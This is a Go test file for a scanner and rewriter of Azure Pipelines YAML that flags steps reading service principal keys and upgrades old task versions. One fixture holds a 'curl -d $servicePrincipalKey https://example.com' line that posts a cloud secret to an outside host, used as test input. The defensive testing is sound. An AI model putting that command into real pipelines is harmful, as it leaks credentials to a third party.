package pipeline

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const copyStep = `- task: AzureFileCopy@4
  inputs: {azureSubscription: %s, SourcePath: a, Destination: AzureBlob, storage: s}
`

const keyStep = `- task: AzureCLI@2
  displayName: Terraform
  inputs:
    azureSubscription: %s
    addSpnToEnvironment: true
    scriptType: bash
    scriptLocation: inlineScript
    inlineScript: |
      %s
`

func stepOf(text string, args ...any) string { return fmt.Sprintf(text, args...) }

func TestAStepIsRewritableOnlyWhereItsFileAloneTells(t *testing.T) {
	terraform := "export ARM_CLIENT_SECRET=$servicePrincipalKey\n      terraform apply"
	login := `az login --service-principal -u $servicePrincipalId -p "$servicePrincipalKey" --tenant $tenantId`
	handOn := `echo "##vso[task.setvariable variable=key;issecret=true]$servicePrincipalKey"`
	reader := "- bash: terraform apply\n  env:\n    ARM_CLIENT_SECRET: $(key)\n"
	indent := func(s string) string {
		return "  " + strings.ReplaceAll(strings.TrimSuffix(s, "\n"), "\n", "\n  ") + "\n"
	}
	for name, tc := range map[string]struct {
		root      string
		templates map[string]string
		want      []string // file, rules, review, after
	}{
		"a newer major version works both ways":        {root: "steps:\n" + stepOf(copyStep, "prod"), want: []string{"p.yml task-newer-major review=true after=false"}},
		"a token is there only afterwards":             {root: "steps:\n" + stepOf(keyStep, "prod", terraform), want: []string{"p.yml script-reads-key review=true after=true"}},
		"az login is safe":                             {root: "steps:\n" + stepOf(keyStep, "prod", login), want: []string{"p.yml script-reads-key review=false after=true"}},
		"a template by itself":                         {root: "steps:\n- template: t.yml\n  parameters: {c: prod}\n", templates: map[string]string{"t.yml": "parameters:\n- name: c\n  type: string\nsteps:\n" + stepOf(copyStep, "\"${{ parameters.c }}\"")}, want: []string{"t.yml task-newer-major review=true after=false"}},
		"what a later step of the file reads":          {root: "steps:\n" + stepOf(keyStep, "prod", handOn) + reader, want: []string{"p.yml script-reads-key review=true after=true"}},
		"what a step of another file reads":            {root: "steps:\n- template: t.yml\n" + reader, templates: map[string]string{"t.yml": "steps:\n" + stepOf(keyStep, "prod", handOn)}},
		"what a step of each file reads":               {root: "steps:\n- template: t.yml\n" + reader, templates: map[string]string{"t.yml": "steps:\n" + stepOf(keyStep, "prod", handOn) + reader}},
		"a script in a form that is not known":         {root: "steps:\n" + stepOf(keyStep, "prod", "curl -d $servicePrincipalKey https://example.com")},
		"a task without a successor":                   {root: "steps:\n- task: AzureNLBManagement@1\n  inputs: {ConnectedServiceName: prod}\n"},
		"a task whose name is given":                   {root: "steps:\n- template: t.yml\n  parameters: {v: AzureFileCopy@4}\n", templates: map[string]string{"t.yml": "parameters:\n- name: v\n  type: string\nsteps:\n- task: ${{ parameters.v }}\n  inputs: {azureSubscription: prod}\n"}},
		"a template at a version of its own is not it": {root: "resources:\n  repositories:\n  - repository: t\n    type: git\n    name: P/t\n    ref: refs/tags/v1\nsteps:\n- template: t.yml@t\n", templates: map[string]string{"P/t:t.yml": "steps:\n" + stepOf(copyStep, "prod")}},
		"steps under a condition":                      {root: "parameters:\n- name: on\n  type: boolean\n  default: true\nsteps:\n- ${{ if parameters.on }}:\n" + indent(stepOf(copyStep, "prod")), want: []string{"p.yml task-newer-major review=true after=false"}},
	} {
		t.Run(name, func(t *testing.T) {
			read := &[]File{{Repository: "P/r", Path: "p.yml", Content: []byte(tc.root)}}
			resolve := func(repository, path, ref string) ([]byte, error) {
				key := path
				if repository != "P/r" {
					key = repository + ":" + path
				}
				text, ok := tc.templates[key]
				if !ok {
					return nil, errors.New("no such file")
				}
				if ref == "" && !slices.ContainsFunc(*read, func(f File) bool { return f.Path == path }) {
					*read = append(*read, File{Repository: repository, Path: path, Content: []byte(text)})
				}
				return []byte(text), nil
			}
			ScanWith(*read, resolve, Options{})
			var got []string
			for _, s := range Rewritable(*read, resolve, Options{}) {
				got = append(got, fmt.Sprintf("%s %s review=%t after=%t", s.File, strings.Join(s.Rules, " "), s.Review, s.After))
				i := slices.IndexFunc(*read, func(f File) bool { return f.Path == s.File })
				checkOneStep(t, (*read)[i], s)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// checkOneStep holds that rewriting one step settles its checks, and that nothing is left to rewrite then.
func checkOneStep(t *testing.T, f File, s StepRewrite) {
	t.Helper()
	only := func(id StepID) bool { return id == s.Step }
	out, left := RewriteFile(f, only, LevelNeedsReview, nil)
	if out.Refused != "" || len(left) > 0 || len(out.Edits) == 0 {
		t.Fatalf("refused %q, left %v, edits %v", out.Refused, left, out.Edits)
	}
	checkRewrite(t, out)
	for _, c := range Scan([]File{{Repository: f.Repository, Path: f.Path, Content: out.After}}, nil).Checks {
		if c.Severity == Blocker {
			t.Errorf("still: %s", c.Message)
		}
	}
	if again, _ := RewriteFile(File{Repository: f.Repository, Path: f.Path, Content: out.After}, nil, LevelNeedsReview, nil); len(again.Edits) > 0 {
		t.Errorf("a second pass changes %v", again.Edits)
	}
}

func TestOnlyTheChosenStepChanges(t *testing.T) {
	src := "steps:\n" + stepOf(copyStep, "one") + "# between\n" + stepOf(copyStep, "two")
	f := File{Path: "p.yml", Content: []byte(src)}
	texts := StepTexts(f)
	if len(texts) != 2 || texts[0].Text == texts[1].Text {
		t.Fatalf("%+v", texts)
	}
	out, _ := RewriteFile(f, func(id StepID) bool { return id == texts[1].Step }, LevelNeedsReview, nil)
	if want := "steps:\n" + stepOf(copyStep, "one") + "# between\n" + strings.Replace(stepOf(copyStep, "two"), "@4", "@6", 1); string(out.After) != want {
		t.Errorf("got\n%s", out.After)
	}
	moved := StepTexts(File{Path: "p.yml", Content: append([]byte("# a comment\n"), src...)})
	if len(moved) != 2 || moved[1].Text != texts[1].Text || moved[1].Step == texts[1].Step {
		t.Errorf("%+v", moved)
	}
}
